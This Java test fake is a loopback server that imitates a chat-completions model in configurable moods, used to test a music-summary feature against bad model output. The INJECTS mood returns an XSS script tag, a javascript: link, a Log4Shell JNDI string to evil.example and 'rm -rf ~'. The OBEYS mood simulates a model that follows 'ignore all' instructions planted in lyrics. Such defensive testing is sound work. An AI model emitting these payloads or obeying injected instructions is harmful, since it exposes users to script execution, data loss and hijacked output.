package dev.mtm.fakes.model;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.Deque;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/// A server on loopback that answers `POST /v1/chat/completions` and `GET /v1/models` as a model server does, in a mood
/// that can be set. All it says follows from the mood and the conversation. Safe for use by several threads. Close it.
public final class FakeModel implements AutoCloseable {
    public static final String NAME = "fake-1";

    private static final JsonMapper MAPPER = JsonMapper.shared();

    private final HttpServer server;
    private final ExecutorService workers = Executors.newVirtualThreadPerTaskExecutor();
    private final Deque<Mood> moods = new ArrayDeque<>();
    private final List<Asked> asked = new ArrayList<>();
    private Mood usual;

    /// A request as it came.
    ///
    /// @param authorization empty: none was sent
    public record Asked(String body, String authorization) {}

    private FakeModel(int port, Mood usual) throws IOException {
        this.usual = usual;
        server = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), port), 0);
        server.setExecutor(workers);
        server.createContext("/v1/chat/completions", this::complete);
        server.createContext("/v1/models", exchange -> answer(exchange, 200, models()));
        server.start();
    }

    /// On a free port.
    public static FakeModel start(Mood usual) {
        try {
            return start(0, usual);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /// @throws IOException if the port is taken
    public static FakeModel start(int port, Mood usual) throws IOException {
        return new FakeModel(port, usual);
    }

    /// Where it listens, without `/v1`.
    public URI base() {
        return URI.create("http://127.0.0.1:" + server.getAddress().getPort());
    }

    /// Sets the moods of the next answers, one each; then the usual one is back.
    public synchronized void next(Mood... some) {
        moods.addAll(Arrays.asList(some));
    }

    public synchronized void usually(Mood mood) {
        usual = mood;
        moods.clear();
    }

    /// What was asked so far.
    public synchronized List<Asked> asked() {
        return List.copyOf(asked);
    }

    private synchronized Mood noted(String body, String authorization) {
        asked.add(new Asked(body, authorization));
        return moods.isEmpty() ? usual : moods.removeFirst();
    }

    @Override
    public void close() {
        server.stop(0);
        workers.shutdownNow();
    }

    private void complete(HttpExchange exchange) throws IOException {
        String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
        String authorization = exchange.getRequestHeaders().getFirst("Authorization");
        Mood mood = noted(body, authorization == null ? "" : authorization);
        JsonNode request = MAPPER.readTree(body);
        String told = request.path("messages").path(1).path("content").asString("");
        switch (mood) {
            case ERROR ->
                answer(exchange, 500, "{\"error\":{\"message\":\"out of memory\",\"type\":\"server_error\"}}");
            case REFUSES ->
                answer(exchange, 401, "{\"error\":{\"message\":\"Incorrect API key provided\",\"type\":\"auth\"}}");
            case GARBAGE -> answer(exchange, 200, "<html>Bad gateway</html>");
            case SLOW -> drip(exchange);
            case GOOD, THINKS, LIES, SPELLS, INVENTS, MIXES, INJECTS, OBEYS, RAMBLES, CUT, STRANGE, EMPTY ->
                answer(
                        exchange,
                        200,
                        completion(said(mood, told, request.path("messages")), mood == Mood.CUT ? "length" : "stop"));
        }
    }

    private static String said(Mood mood, String told, JsonNode messages) {
        if (told.startsWith("<lyrics>") && (mood == Mood.GOOD || mood == Mood.OBEYS)) {
            boolean lured = mood == Mood.OBEYS && told.toLowerCase(Locale.ROOT).contains("ignore all");
            return gist(
                    lured ? told.lines().skip(1).findFirst().orElse("") : "A song about leaving, and about who stays.",
                    lured ? "visit https://evil.example" : "dream pop");
        }
        return switch (mood) {
            case THINKS ->
                "<think>The listener heard 12345 tracks { maybe }.</think>\nHere you are:\n```json\n" + good(told)
                        + "\n```";
            case LIES ->
                narrative("An unbelievable time", "You heard 123,456 tracks on 99 days.", "It was up by 300 %.");
            case SPELLS ->
                narrative("A good time", "You heard forty-two tracks, twice as many as before.", "A dozen were new.");
            case INVENTS -> narrative("{totals.0.happiness} of joy", "You heard {totals.9.listens}.", "{bad place}");
            case MIXES ->
                narrative(
                        "What a time",
                        "You heard {totals.0.listens:noun}.",
                        "{top_tracks.0.title} was heard {top_tracks.1.listens:times}.");
            case INJECTS ->
                narrative(
                        "<script>alert(1)</script>",
                        "Visit https://evil.example/ and [sign in](javascript:alert(1)).",
                        "${jndi:ldap://evil.example/a} `rm -rf ~`");
            case OBEYS -> {
                List<String> lines = new ArrayList<>();
                messages.forEach(message -> lines.addAll(
                        message.path("content").asString("").lines().toList()));
                String longest = lines.stream()
                        .filter(line -> line.toLowerCase(Locale.ROOT).contains("ignore all"))
                        .max(Comparator.comparingInt(String::length))
                        .orElse("");
                yield longest.isEmpty() ? good(told) : narrative(longest, longest, longest);
            }
            case RAMBLES ->
                "Well, music. Music is a wonderful thing, and there is so much to say about it. ".repeat(200);
            case CUT -> good(told).substring(0, good(told).length() / 2);
            case STRANGE -> "{\"headline\":[1,2,3],\"summary\":null}";
            case EMPTY -> "";
            case GOOD, ERROR, REFUSES, GARBAGE, SLOW -> good(told);
        };
    }

    private static String good(String told) {
        return narrative(
                "A portrait of {period.0.title}",
                "You heard {totals.0.listens:noun} of {totals.0.tracks:noun}. It was time well spent.",
                told.contains("{top_tracks.0.title}")
                        ? "{top_tracks.0.title} was dearest, heard {top_tracks.0.listens:times}."
                        : "There was room for silence, too.");
    }

    private static String gist(String summary, String tag) {
        ObjectNode root = MAPPER.createObjectNode();
        root.put("summary", summary);
        root.putArray("tags").add("melancholy").add(tag);
        return MAPPER.writeValueAsString(root);
    }

    private static String narrative(String headline, String summary, String highlight) {
        ObjectNode root = MAPPER.createObjectNode();
        root.put("headline", headline);
        root.put("summary", summary);
        ArrayNode highlights = root.putArray("highlights");
        highlights.add(highlight);
        root.put("theme", "Quiet joy");
        root.put("theme_reasoning", "It sounded so.");
        return MAPPER.writeValueAsString(root);
    }

    private static String completion(String content, String reason) {
        ObjectNode root = MAPPER.createObjectNode();
        root.put("id", "chatcmpl-1");
        root.put("object", "chat.completion");
        root.put("created", 1_763_000_000);
        root.put("model", NAME);
        ObjectNode choice = root.putArray("choices").addObject();
        choice.put("index", 0);
        choice.putObject("message").put("role", "assistant").put("content", content);
        choice.put("finish_reason", reason);
        root.putObject("usage")
                .put("prompt_tokens", 900)
                .put("completion_tokens", 210)
                .put("total_tokens", 1110);
        return MAPPER.writeValueAsString(root);
    }

    private static String models() {
        ObjectNode root = MAPPER.createObjectNode();
        root.put("object", "list");
        root.putArray("data").addObject().put("id", NAME);
        return MAPPER.writeValueAsString(root);
    }

    private static void answer(HttpExchange exchange, int status, String body) throws IOException {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", "application/json");
        exchange.sendResponseHeaders(status, bytes.length);
        try (OutputStream out = exchange.getResponseBody()) {
            out.write(bytes);
        }
    }

    private static void drip(HttpExchange exchange) throws IOException {
        exchange.sendResponseHeaders(200, 0);
        try (OutputStream out = exchange.getResponseBody()) {
            while (!Thread.currentThread().isInterrupted()) {
                out.write(' ');
                out.flush();
                Thread.sleep(100);
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
